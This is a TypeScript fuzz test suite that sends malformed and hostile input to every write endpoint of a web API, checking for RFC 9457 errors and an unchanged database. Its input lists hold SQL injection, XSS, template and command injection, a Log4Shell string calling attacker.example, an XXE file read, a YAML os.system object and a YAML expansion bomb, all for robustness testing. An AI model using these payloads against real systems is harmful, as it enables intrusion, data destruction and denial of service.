// Bad input never breaks anything (issue 10, guarantee 2), over real HTTP against the production
// build. For every write operation of the OpenAPI registry (server/openapi/paths/), with
// seeded fast-check properties: malformed JSON, wrong types, huge strings, odd Unicode, unknown
// fields, bad money, injection strings, wrong content types and garbage path parameters. Every
// answer must be a 4xx RFC 9457 problem (never a 5xx); a 2xx only for input the operation's own
// schema accepts; and a refused write must leave every row it could touch as it was (the
// snapshot of test-support/bad-input-targets/, taken before and after each request).
//
// Reproduce a failure with its seed: FUZZ_SEED=<seed> (the base seed is printed in the error).
// Nothing is left out: NUL characters and lone UTF-16 surrogates in text or ids (refused with a
// 422/404 before PostgreSQL), and broken percent-encodings in a path (a 400 from proxy.ts), are
// all thrown at every operation.
import { randomBytes } from "node:crypto";
import fc from "fast-check";
import type { z } from "zod";
import type { Role } from "../lib/lifecycle";
import { makeUser } from "../prisma/seed/factories";
import { createApiToken } from "../server/auth/api-tokens";
import type { Endpoint } from "../server/openapi/endpoint";
import { ENDPOINTS } from "../server/openapi/paths";
import { readCompose } from "../server/services/compose-import";
import { TARGETS } from "../test-support/bad-input-targets";
import type { Actor, Prepared, TargetCtx, User } from "../test-support/bad-input-targets/kit";
import { FUZZ_RUNS, FUZZ_SEED, seedOf, segs, setAt, stringLeaves } from "../test-support/fuzz";
import { test as base, expect } from "./fixtures";
import { importAccepts } from "./import-validity";

const WRITE_METHODS = new Set(["POST", "PUT", "PATCH", "DELETE"]);
const WRITES = ENDPOINTS.filter((endpoint) => WRITE_METHODS.has(endpoint.method));
const MB = 1024 * 1024;
type People = { admin: Actor; business: Actor; owner: User };

const test = base.extend<object, { people: People }>({
  people: [
    async ({ prisma }, use) => {
      const withToken = async (role: Role): Promise<Actor> => {
        const user = await makeUser(prisma, { role });
        return { ...user, token: await createApiToken(prisma, user.email, "bad-input setup") };
      };
      await use({
        admin: await withToken("ADMIN"),
        business: await withToken("BUSINESS"),
        owner: await makeUser(prisma, { role: "DATA_SCIENTIST" }),
      });
    },
    { scope: "worker" },
  ],
});

// ---------------------------------------------------------------------------------------------
// The inputs.

/** Strings a client should never be able to break the server with. */
const ODD_UNICODE = [
  "\uD800", // a lone high surrogate
  "\uDC00x", // a lone low surrogate
  "a\uD83D", // half an emoji
  "\u202Egnp.exe\u202C", // right-to-left override
  "\u200F\u200E\u061C", // RTL/LTR marks
  "\u0000", // NUL
  "a\u0000b",
  "😀👩‍👩‍👧‍👦🏳️‍🌈",
  "e\u0301\u0302\u0303\u0304\u0305\u0306", // combining marks
  "Z̴̡̛̖͇̞̫̗̳̪̮̳̱̺̭̗͔̹͐̇̓̀̃̾̒̈́̓̉̚ä̸",
  "\uFEFFbom",
  "\u2028\u2029",
  "\uFFFE\uFFFF",
  "\u{10FFFF}",
  "\u00A0\u2007\u202F",
  "\t\r\n\v\f",
  "\u001B[31mred",
];

const INJECTIONS = [
  `'; DROP TABLE "UseCase"; --`,
  `" OR 1=1 --`,
  "<script>alert(1)</script>",
  `<img src=x onerror="alert(1)">`,
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection payload, literally
  "${7*7}",
  "#{7*7}",
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection payload, literally
  "${jndi:ldap://attacker.example/a}",
  "%00",
  "$(touch /tmp/pwned)",
  "`id`",
  "javascript:alert(1)",
  '{"$gt": ""}',
  "\\",
];

const MONEY = [
  "1e400",
  "-0.001",
  "12345678901234567.89",
  "0x10",
  " 1 ",
  "1,000.00",
  "1 000",
  "NaN",
  "Infinity",
  "-Infinity",
  "-0",
  "0.999",
  "1.",
  ".5",
  "+1",
  "１２３",
  "1_000",
  "9999999999999.99",
  "10000000000000",
  "1000000000000.01",
  "-1",
  "",
  "0",
  "00000000000001.00",
  "1e3",
  "٣",
];

/** Money as a raw JSON number (not a string): only literals JSON allows. */
const MONEY_LITERALS = ["1e400", "-0.001", "12345678901234567.89", "1e-400", "-0", "0.1", "100", "9007199254740993"];

const MALFORMED = [
  '{"a":',
  "{'a': 1}",
  "[1, 2,",
  "{,}",
  '{"a": 1,}',
  '{"a": 01}',
  '{"a": NaN}',
  '{"a": undefined}',
  "\uFEFF{}",
  "{} {}",
  "nul",
  '{"a": "\\x41"}',
  '{"a": "\\uD800"',
  '"unterminated',
  "}",
  "\u0000",
  '{"a" 1}',
];

const CONTENT_TYPES = [
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=----x",
  "application/xml",
  "application/json; charset=utf-16",
  "application/yaml",
  "application/octet-stream",
  "",
  "*/*",
  "application/json, text/plain",
];

const GARBAGE_SEGMENTS = [
  "",
  " ",
  "null",
  "undefined",
  "NaN",
  "-1",
  "0",
  "UC-0",
  "UC-1000000000",
  "UC-99999999999999999999",
  "UC--1",
  "UC-1.5",
  "UC-1e3",
  "UC-0x1F",
  "[object Object]",
  "../../etc/passwd",
  "..%2F..%2Fetc%2Fpasswd",
  `' OR 1=1 --`,
  "<script>",
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection payload, literally
  "${jndi:ldap://x/a}",
  "\u0000",
  "a\u0000b",
  "😀",
  "\u202E",
  "x".repeat(3000),
  "c".repeat(25),
  "%",
  "%zz",
  "%E0%A4%A",
  "%C0%AE",
];

const text = fc.oneof(
  fc.constantFrom(...ODD_UNICODE),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc
    .array(fc.oneof(fc.constantFrom(...ODD_UNICODE), fc.string({ unit: "binary", maxLength: 6 })), { maxLength: 5 })
    .map((parts) => parts.join("")),
);

const huge = fc
  .record({
    size: fc.integer({ min: 100_000, max: 300_000 }),
    unit: fc.constantFrom("x", "é", "😀", "\u0000", " ", "\uD800", "a\u0301", "\\"),
  })
  .map(({ size, unit }) => unit.repeat(Math.ceil(size / unit.length)));

// ---------------------------------------------------------------------------------------------
// Mutations of the valid request, applied when the run has the live target (versions change).

type Mutation =
  | { k: "malformed"; text: string }
  | { k: "truncate"; at: number }
  | { k: "whole"; value: unknown }
  | { k: "field"; at: number; value: unknown }
  | { k: "text"; at: number; value: string }
  | { k: "extra"; key: string; value: unknown }
  | { k: "money"; at: number; value: string; literal: boolean }
  | { k: "ctype"; contentType: string | null; payload: "valid" | "form" | "xml" | "garbage" }
  | { k: "path"; at: number; value: string }
  | { k: "tooLarge" }
  | { k: "rawText"; value: string }
  | { k: "query"; at: number; value: string | null };

/** One HTTP request of a run. */
type Shot = {
  label: string;
  params: Record<string, string>;
  /** Path segments that must go out verbatim (broken percent-encodings). */
  verbatim?: Set<string>;
  query?: Record<string, string>;
  contentType: string | null;
  data?: Buffer;
  /** The path parameters are the real target's. */
  realPath: boolean;
};

function schemaKeys(schema: z.ZodType): string[] {
  const shape = (schema as unknown as { shape?: Record<string, unknown> }).shape;
  return shape ? Object.keys(shape) : [];
}

/** JSON text of `body` with the placeholders swapped for raw JSON text (numbers, odd keys). */
function serialise(body: unknown, raws: Record<string, string> = {}): string {
  let out = JSON.stringify(body);
  for (const [placeholder, raw] of Object.entries(raws)) out = out.replace(JSON.stringify(placeholder), raw);
  return out;
}

function shortJson(value: unknown, max = 160): string {
  let s: string;
  try {
    s = typeof value === "string" ? value : JSON.stringify(value);
  } catch {
    s = String(value);
  }
  s = s ?? String(value);
  return s.length > max ? `${s.slice(0, max)}…(${s.length} chars)` : s;
}

const ENCODER = new TextEncoder();
/** Percent-encode a path segment; lone surrogates go out as U+FFFD (a URL cannot carry them). */
const encodeSegment = (value: string) =>
  [...ENCODER.encode(value)]
    .map((byte) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(byte)) && byte < 0x80
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, "0")}`,
    )
    .join("");

const isKeyLike = (value: string) => /^\s*UC-\d{1,9}\s*$/i.test(value);

function buildShot(
  endpoint: Endpoint,
  prepared: Prepared,
  valid: unknown,
  mutation: Mutation,
): { shot: Shot; parsedBody?: unknown } {
  const json = "application/json";
  const names = Object.keys(prepared.params);
  const base = {
    params: prepared.params,
    query: prepared.query,
    realPath: true,
  };
  const bodyShot = (label: string, text: string, contentType: string | null = json): Shot => ({
    ...base,
    label,
    contentType,
    data: Buffer.from(text),
  });
  const schema = endpoint.body && "schema" in endpoint.body ? endpoint.body.schema : null;
  const leaves = prepared.textPaths?.map(segs) ?? stringLeaves(valid);
  // With textPaths (a shared record), only those leaves and the top-level keys are replaced.
  const fields = [
    ...new Set([...leaves.map((l) => l.join(".")), ...(schema ? schemaKeys(schema) : []), ...Object.keys(valid ?? {})]),
  ].map(segs);
  const validText = prepared.raw ? prepared.raw.data : serialise(valid ?? {});
  const validType = prepared.raw ? prepared.raw.contentType : json;

  switch (mutation.k) {
    case "malformed":
      return { shot: bodyShot(`malformed JSON ${shortJson(mutation.text)}`, mutation.text) };
    case "truncate": {
      const text = validText.slice(0, mutation.at % Math.max(validText.length, 1));
      return { shot: bodyShot(`truncated JSON ${shortJson(text)}`, text, validType) };
    }
    case "whole":
      return { shot: bodyShot(`body ${shortJson(mutation.value)}`, serialise(mutation.value) ?? "null") };
    case "field": {
      const path = fields[mutation.at % Math.max(fields.length, 1)] ?? ["title"];
      const body = setAt(valid ?? {}, path, mutation.value);
      return { shot: bodyShot(`${path.join(".")} = ${shortJson(mutation.value)}`, serialise(body) ?? "null") };
    }
    case "text": {
      const path = leaves[mutation.at % Math.max(leaves.length, 1)] ?? fields[0] ?? ["title"];
      const body = setAt(valid ?? {}, path, mutation.value);
      return { shot: bodyShot(`${path.join(".")} = ${shortJson(mutation.value)}`, serialise(body)) };
    }
    case "extra": {
      const known = new Set([...(schema ? schemaKeys(schema) : []), ...Object.keys(valid ?? {})]);
      const key = known.has(mutation.key) ? `x_${mutation.key}` : mutation.key;
      // Spliced in as text: `{"__proto__": …}` cannot be built as an object literal.
      const inner = validText.trim().replace(/^\{/, "").replace(/\}$/, "");
      const text = `{${inner}${inner ? "," : ""}${JSON.stringify(key)}:${serialise(mutation.value) ?? "null"}}`;
      return { shot: bodyShot(`extra field ${shortJson(key)} = ${shortJson(mutation.value)}`, text) };
    }
    case "money": {
      const money = (TARGETS[endpoint.operationId]?.money ?? []).map(segs);
      const path = money[mutation.at % Math.max(money.length, 1)] ?? ["amount"];
      const literal = mutation.literal && MONEY_LITERALS.includes(mutation.value);
      const placeholder = "\u0001MONEY\u0001";
      const body = setAt(valid ?? {}, path, literal ? placeholder : mutation.value);
      const text = literal ? serialise(body, { [placeholder]: mutation.value }) : serialise(body);
      return {
        shot: bodyShot(`${path.join(".")} = ${literal ? mutation.value : JSON.stringify(mutation.value)}`, text),
      };
    }
    case "ctype": {
      const payload = {
        valid: validText,
        form: "title=Hello&version=1&note=%3Cscript%3E",
        xml: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
        garbage: "\u0000\u0001binary\uFFFD",
      }[mutation.payload];
      return {
        shot: bodyShot(
          `content-type ${JSON.stringify(mutation.contentType)} with ${mutation.payload} body`,
          payload,
          mutation.contentType,
        ),
      };
    }
    case "path": {
      const name = names[mutation.at % names.length] as string;
      let value = mutation.value;
      if (value === prepared.params[name] || (name === "key" && isKeyLike(value))) value = `${value}x`;
      const verbatim = /%/.test(value) && GARBAGE_SEGMENTS.includes(value) ? new Set([name]) : undefined;
      return {
        shot: {
          ...base,
          label: `path {${name}} = ${shortJson(value)}`,
          params: { ...prepared.params, [name]: value },
          ...(verbatim ? { verbatim } : {}),
          realPath: false,
          contentType: endpoint.body ? validType : null,
          ...(endpoint.body ? { data: Buffer.from(validText) } : {}),
        },
      };
    }
    case "tooLarge": {
      const text = `{"pad":"${"x".repeat(MB + 10)}"}`;
      return { shot: bodyShot("a body over 1 MB", text, validType) };
    }
    case "rawText":
      return { shot: bodyShot(`raw body ${shortJson(mutation.value)}`, mutation.value, validType) };
    case "query": {
      const keys = Object.keys(prepared.query ?? {});
      const key = keys[mutation.at % Math.max(keys.length, 1)] as string;
      const query = { ...prepared.query };
      if (mutation.value === null) delete query[key];
      else query[key] = mutation.value;
      return {
        shot: {
          ...bodyShot(`query ${key} = ${shortJson(mutation.value)}`, validText, validType),
          query,
        },
      };
    }
  }
}

// ---------------------------------------------------------------------------------------------
// The oracle.

type World = {
  ctx: TargetCtx;
  endpoint: Endpoint;
  prepared: Prepared;
  log: { label: string; status: number }[];
  /** The snapshot after the last refused request (nothing has changed since); none after a success. */
  state?: unknown;
};

function urlOf(endpoint: Endpoint, shot: Shot): string {
  const path = endpoint.path.replace(/\{(\w+)\}/g, (_, name: string) => {
    const value = shot.params[name];
    if (value === undefined) throw new Error(`no value for {${name}}`);
    return shot.verbatim?.has(name) ? value : encodeSegment(value);
  });
  const query = new URLSearchParams(shot.query ?? {}).toString();
  return query ? `${path}?${query}` : path;
}

/** Whether the operation's own rules accept this request (a 2xx is allowed only then). */
function genuinelyValid(endpoint: Endpoint, shot: Shot): boolean {
  if (!shot.realPath) return false;
  const text = shot.data?.toString("utf8") ?? "";
  if (!endpoint.body) return true;
  if (endpoint.operationId === "importUseCases") return importAccepts(shot);
  if (!("schema" in endpoint.body)) {
    // The compose import: the YAML must read. Only `save=true` writes (any other `save` is a
    // preview, read-only), and then the environment must be a documented one.
    try {
      readCompose(text, shot.query?.baseUrl);
    } catch {
      return false;
    }
    if (shot.query?.save !== "true") return true;
    return endpoint.query?.safeParse(shot.query ?? {}).success ?? true;
  }
  if (Buffer.byteLength(text) > MB) return false;
  let parsed: unknown;
  // The server decodes the body as UTF-8 text, which drops a leading byte order mark.
  const decoded = text.replace(/^\uFEFF/, "");
  if (endpoint.body.optional && decoded.trim() === "") parsed = {};
  else
    try {
      parsed = JSON.parse(decoded);
    } catch {
      return false;
    }
  // An optional body may also be `null` (the domain reads it as none, like e2e/contract.spec.ts).
  if (endpoint.body.optional && parsed === null) parsed = {};
  return endpoint.body.schema.safeParse(parsed).success;
}

/** Send one shot; throw (failing the property) on a 5xx, a non-problem error, a 2xx for invalid input, or a refused write that changed something. */
async function fire(world: World, shot: Shot): Promise<void> {
  const { ctx, endpoint, prepared } = world;
  if (prepared.neutralise && shot.data && endpoint.body && "schema" in endpoint.body) {
    try {
      const parsed = JSON.parse(shot.data.toString("utf8"));
      if (endpoint.body.schema.safeParse(parsed).success)
        shot.data = Buffer.from(JSON.stringify(await prepared.neutralise(parsed)));
    } catch {
      // not JSON: sent as it is
    }
  }
  const before = world.state ?? (await prepared.snapshot());
  world.state = undefined;
  const url = urlOf(endpoint, shot);
  const headers: Record<string, string> = { authorization: `Bearer ${ctx.actor.token}` };
  if (shot.contentType !== null) headers["content-type"] = shot.contentType;
  const response = await ctx.request.fetch(url, {
    method: endpoint.method,
    headers,
    ...(shot.data === undefined ? {} : { data: shot.data }),
    maxRedirects: 0,
    timeout: 30_000,
  });
  const status = response.status();
  const body = await response.text();
  const where = `${endpoint.method} ${url.slice(0, 160)} — ${shot.label}`;
  world.log.push({ label: shot.label, status });
  if (status >= 500) {
    const headers = response.headers();
    // x-request-id: set by server/http/api-route.ts, so its absence means the handler never ran.
    const ran = headers["x-request-id"] !== undefined ? "the API handler answered" : "answered before the API handler";
    throw new Error(
      `${where}\n→ ${status} (a server error, ${ran}, content-type ${headers["content-type"]}): ${body.slice(0, 600)}`,
    );
  }
  if (status >= 300 && status < 400) {
    // Next.js normalises an empty path segment (`/use-cases//gates`, `/services/`) with a
    // redirect: the handler never ran. Anything else redirecting is unexpected.
    if (shot.realPath || !Object.values(shot.params).includes(""))
      throw new Error(`${where}\n→ ${status} redirect to ${response.headers().location}: ${body.slice(0, 200)}`);
  } else if (status < 400) {
    if (!genuinelyValid(endpoint, shot))
      throw new Error(`${where}\n→ ${status} for input the operation's rules refuse: ${body.slice(0, 400)}`);
    return; // a valid write: it may change the records (the next run snapshots again)
  } else {
    expectProblem(where, status, response.headers()["content-type"] ?? "", body);
  }
  const after = await prepared.snapshot();
  try {
    expect(after).toEqual(before);
  } catch (error) {
    throw new Error(`${where}\n→ ${status}, but the refused write changed the database:\n${(error as Error).message}`);
  }
  world.state = after;
}

/** An RFC 9457 problem: its content type, a JSON body with the same status and a title. */
function expectProblem(where: string, status: number, contentType: string, body: string) {
  if (!contentType.includes("application/problem+json"))
    throw new Error(`${where}\n→ ${status} with content-type ${JSON.stringify(contentType)}: ${body.slice(0, 300)}`);
  let problem: { status?: unknown; title?: unknown };
  try {
    problem = JSON.parse(body);
  } catch {
    throw new Error(`${where}\n→ ${status}: the problem is not JSON: ${body.slice(0, 300)}`);
  }
  if (problem.status !== status || typeof problem.title !== "string")
    throw new Error(`${where}\n→ ${status}: not an RFC 9457 problem: ${body.slice(0, 300)}`);
}

// ---------------------------------------------------------------------------------------------
// The properties, by kind of bad input.

type Category = { name: string; runs: number; arb: fc.Arbitrary<Mutation>; examples?: Mutation[] };

const nat = fc.nat({ max: 1000 });

/**
 * The fixed lists are long: each operation takes its share of them as examples (all of them
 * across the operations), the random runs draw from the whole lists too.
 */
function share<T>(list: readonly T[], endpoint: Endpoint, parts: number): T[] {
  const k = WRITES.indexOf(endpoint);
  return list.filter((_, i) => i % parts === k % parts);
}

function categories(endpoint: Endpoint): Category[] {
  const target = TARGETS[endpoint.operationId];
  const hasParams = /\{\w+\}/.test(endpoint.path);
  const path: Category = {
    name: "garbage path parameters",
    runs: 5,
    arb: fc
      .record({
        at: nat,
        value: fc.oneof(
          fc.constantFrom(...GARBAGE_SEGMENTS),
          fc.string({ unit: "binary", maxLength: 30 }),
          fc.constantFrom(...INJECTIONS, ...ODD_UNICODE),
        ),
      })
      .map((r) => ({ k: "path", ...r }) as Mutation),
    examples: share(GARBAGE_SEGMENTS, endpoint, 3).map((value, at) => ({ k: "path", at, value }) as Mutation),
  };
  if (!endpoint.body) return hasParams ? [path] : [];
  const ctypes: Category = {
    name: "wrong content types",
    runs: 3,
    arb: fc
      .record({
        contentType: fc.oneof(fc.constantFrom(...CONTENT_TYPES), fc.constant(null)),
        payload: fc.constantFrom("valid", "form", "xml", "garbage") as fc.Arbitrary<
          "valid" | "form" | "xml" | "garbage"
        >,
      })
      .map((r) => ({ k: "ctype", ...r }) as Mutation),
    examples: [null, ...CONTENT_TYPES].map(
      (contentType, i) =>
        ({ k: "ctype", contentType, payload: (["form", "garbage", "xml"] as const)[i % 3] }) as Mutation,
    ),
  };
  const tooLarge: Category = {
    name: "bodies over 1 MB",
    runs: 1,
    arb: fc.constant({ k: "tooLarge" } as Mutation),
  };
  if (!("schema" in endpoint.body)) {
    // A raw (YAML) body and a query: the compose import.
    return [
      {
        name: "garbage files",
        runs: 12,
        arb: fc
          .oneof(
            text,
            fc.constantFrom(
              ...INJECTIONS,
              "services: [",
              "just: text\n",
              "a: &a [*a, *a]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: &d [*c, *c]\ne: [*d, *d, *d]\n",
              "services:\n  x: !!python/object/apply:os.system ['id']\n",
              "services:\n  web:\n    ports: [{published: 99999999}]\n",
              "services:\n  web:\n    image: 42\n    ports: ['-1:80', 'a:b:c:d', '65536:1']\n",
              "services: !!binary AAAA\n",
              "%YAML 9.9\n---\nservices: {}\n",
              "services:\n  web:\n    ports:\n      - '3000:3000'\n".repeat(2000),
            ),
            huge,
          )
          .map((value) => ({ k: "rawText", value }) as Mutation),
      },
      {
        name: "garbage query parameters",
        runs: 10,
        arb: fc
          .record({
            at: nat,
            value: fc.oneof(
              fc.constant(null),
              fc.constantFrom(...INJECTIONS, ...ODD_UNICODE.filter((s) => !/[\uD800-\uDFFF]/.test(s))),
              fc.constantFrom(
                "file:///etc/passwd",
                "http://",
                "http://[::1",
                "gopher://x",
                "http://a b",
                "TRUE",
                "MARS",
              ),
              fc.string({ maxLength: 30 }),
            ),
          })
          .map((r) => ({ k: "query", ...r }) as Mutation),
      },
      ctypes,
      tooLarge,
      ...(hasParams ? [path] : []),
    ];
  }
  const list: Category[] = [
    {
      name: "malformed JSON",
      runs: 4,
      arb: fc.oneof(
        fc.constantFrom(...MALFORMED).map((t) => ({ k: "malformed", text: t }) as Mutation),
        fc
          .string({ unit: "binary", maxLength: 30 })
          .filter((t) => {
            try {
              JSON.parse(t);
              return false;
            } catch {
              return t.trim() !== "";
            }
          })
          .map((t) => ({ k: "malformed", text: t }) as Mutation),
        nat.map((at) => ({ k: "truncate", at }) as Mutation),
      ),
      examples: share(MALFORMED, endpoint, 2).map((t) => ({ k: "malformed", text: t }) as Mutation),
    },
    {
      name: "wrong types",
      runs: 8,
      arb: fc.oneof(
        fc.anything().map((value) => ({ k: "whole", value }) as Mutation),
        fc.record({ at: nat, value: fc.anything() }).map((r) => ({ k: "field", ...r }) as Mutation),
      ),
      examples: [null, [], [1, 2], "x", 0, true, 1e308, { "": "" }].map((value) => ({ k: "whole", value }) as Mutation),
    },
    {
      name: "huge strings",
      runs: 3,
      arb: fc.record({ at: nat, value: huge }).map((r) => ({ k: "text", ...r }) as Mutation),
    },
    tooLarge,
    {
      name: "odd Unicode",
      runs: 6,
      arb: fc.record({ at: nat, value: text }).map((r) => ({ k: "text", ...r }) as Mutation),
      examples: share(ODD_UNICODE, endpoint, 2).map((value, at) => ({ k: "text", at, value }) as Mutation),
    },
    {
      name: "unknown fields",
      runs: 4,
      arb: fc
        .record({
          key: fc.oneof(
            fc.constantFrom(
              "__proto__",
              "constructor",
              "prototype",
              "id",
              "createdAt",
              "stage",
              "status",
              "role",
              "authorId",
              "useCaseId",
              "createdById",
              "secret",
              "$where",
            ),
            fc.string({ maxLength: 12 }),
          ),
          value: fc.anything({ maxDepth: 2 }),
        })
        .map((r) => ({ k: "extra", ...r }) as Mutation),
      examples: [
        { k: "extra", key: "__proto__", value: { admin: true } },
        { k: "extra", key: "stage", value: "PRODUCTION" },
        { k: "extra", key: "role", value: "ADMIN" },
      ],
    },
    {
      name: "injection strings",
      runs: 2,
      arb: fc.record({ at: nat, value: fc.constantFrom(...INJECTIONS) }).map((r) => ({ k: "text", ...r }) as Mutation),
      examples: share(INJECTIONS, endpoint, 2).map((value, at) => ({ k: "text", at, value }) as Mutation),
    },
    ctypes,
  ];
  if (target?.money?.length)
    list.push({
      name: "bad money",
      runs: 6,
      arb: fc
        .record({
          at: nat,
          value: fc.oneof(
            fc.constantFrom(...MONEY, ...MONEY_LITERALS),
            fc.double().map(String),
            fc.bigInt().map(String),
            fc.stringMatching(/^-?\d{0,20}(\.\d{0,6})?$/),
          ),
          literal: fc.boolean(),
        })
        .map((r) => ({ k: "money", ...r }) as Mutation),
      examples: [
        ...share(MONEY, endpoint, 2).map((value, at) => ({ k: "money", at, value, literal: false }) as Mutation),
        ...MONEY_LITERALS.map((value, at) => ({ k: "money", at, value, literal: true }) as Mutation),
      ],
    });
  if (hasParams) list.push(path);
  return list;
}

// ---------------------------------------------------------------------------------------------

// Traces would keep every fuzzed request (megabytes of them) for each failure.
test.use({ trace: "off" });

test.describe("bad input never breaks anything", () => {
  test("every write operation of the registry has a fuzz target", () => {
    const missing = WRITES.map((e) => e.operationId).filter((id) => !TARGETS[id]);
    expect(missing, "add them to TARGETS in test-support/bad-input-targets/<tag>.ts").toEqual([]);
    const stale = Object.keys(TARGETS).filter((id) => !WRITES.some((e) => e.operationId === id));
    expect(stale, "targets of operations the registry no longer has").toEqual([]);
  });

  for (const endpoint of WRITES) {
    test(`${endpoint.operationId}: ${endpoint.method} ${endpoint.path}`, async ({ request, prisma, people }) => {
      const target = TARGETS[endpoint.operationId];
      if (!target)
        throw new Error(
          `No fuzz target for ${endpoint.operationId}: add it to TARGETS in test-support/bad-input-targets/<tag>.ts.`,
        );
      const user = await makeUser(prisma, { role: target.as });
      const actor = { ...user, token: await createApiToken(prisma, user.email, "bad-input fuzz") };
      const tag = `${Date.now().toString(36)}${randomBytes(3).toString("hex")}`;
      const ctx: TargetCtx = { request, prisma, ...people, actor, tag };
      const prepared = await target.setup(ctx);
      const world: World = { ctx, endpoint, prepared, log: [] };
      const failures: string[] = [];

      for (const category of categories(endpoint)) {
        const seed = seedOf(`${endpoint.operationId}:${category.name}`);
        await test.step(category.name, async () => {
          try {
            await fc.assert(
              fc.asyncProperty(category.arb, async (mutation) => {
                const valid = prepared.valid ? await prepared.valid() : undefined;
                const { shot } = buildShot(endpoint, prepared, valid, mutation);
                await fire(world, shot);
              }),
              {
                seed,
                // Examples count as runs: every example, then the random ones.
                numRuns: (category.examples?.length ?? 0) + Math.max(1, Math.round(category.runs * FUZZ_RUNS)),
                examples: (category.examples ?? []).map((m) => [m] as [Mutation]),
                endOnFailure: true,
              },
            );
          } catch (error) {
            const cause = (error as Error).cause as Error | undefined;
            failures.push(
              `[${category.name}] (FUZZ_SEED=${FUZZ_SEED}, seed ${seed})\n${(error as Error).message}\n${cause?.message ?? ""}`,
            );
          }
        });
      }
      const statuses = world.log.reduce<Record<number, number>>(
        (acc, { status }) => Object.assign(acc, { [status]: (acc[status] ?? 0) + 1 }),
        {},
      );
      test
        .info()
        .annotations.push({ type: "requests", description: `${world.log.length}: ${JSON.stringify(statuses)}` });
      await prepared.cleanup?.();
      expect(failures, failures.join("\n\n")).toEqual([]);
    });
  }
});

// The three classes the fuzzing once found answering 500, pinned as plain examples.
test.describe("characters PostgreSQL cannot store, and addresses that cannot be decoded", () => {
  test("a NUL or a lone surrogate in a body is a 422 naming the field; nothing is written", async ({
    request,
    prisma,
    people,
  }) => {
    const auth = { authorization: `Bearer ${people.admin.token}` };
    const prefix = `Unstorable ${randomBytes(4).toString("hex")}`;
    for (const title of [`${prefix} \u0000`, `${prefix} \ud800`]) {
      const response = await request.post("/api/v1/use-cases", {
        headers: { ...auth, "content-type": "application/json" },
        data: JSON.stringify({ title, output: "x", outcome: "y", benefitArea: "COST_REDUCTION" }),
      });
      expect(response.status()).toBe(422);
      expect(response.headers()["content-type"]).toContain("application/problem+json");
      const body = await response.json();
      expect(body.errors).toContainEqual({ path: "title", message: expect.stringContaining("cannot be stored") });
    }
    expect(await prisma.useCase.count({ where: { title: { startsWith: prefix } } })).toBe(0);
  });

  test("a NUL in an address or in an API query is a 400", async ({ request, people }) => {
    const auth = { authorization: `Bearer ${people.admin.token}` };
    const decide = await request.post("/api/v1/gates/a%00b/decisions", {
      headers: auth,
      data: { decision: "GO", rationale: "Fine" },
    });
    expect(decide.status()).toBe(400);
    const list = await request.get("/api/v1/use-cases?q=%00", { headers: auth });
    expect(list.status()).toBe(400);
    expect((await list.json()).title).toBe("Bad Request");
  });

  test("a broken percent-encoding is a 400: a problem from the API, a page elsewhere", async ({ request }) => {
    const api = await request.get("/api/v1/use-cases/%zz");
    expect(api.status()).toBe(400);
    expect(api.headers()["content-type"]).toContain("application/problem+json");
    expect((await api.json()).detail).toContain("malformed");
    const page = await request.get("/use-cases/%E0%A4%A");
    expect(page.status()).toBe(400);
    expect(await page.text()).toContain("This address is malformed");
  });
});
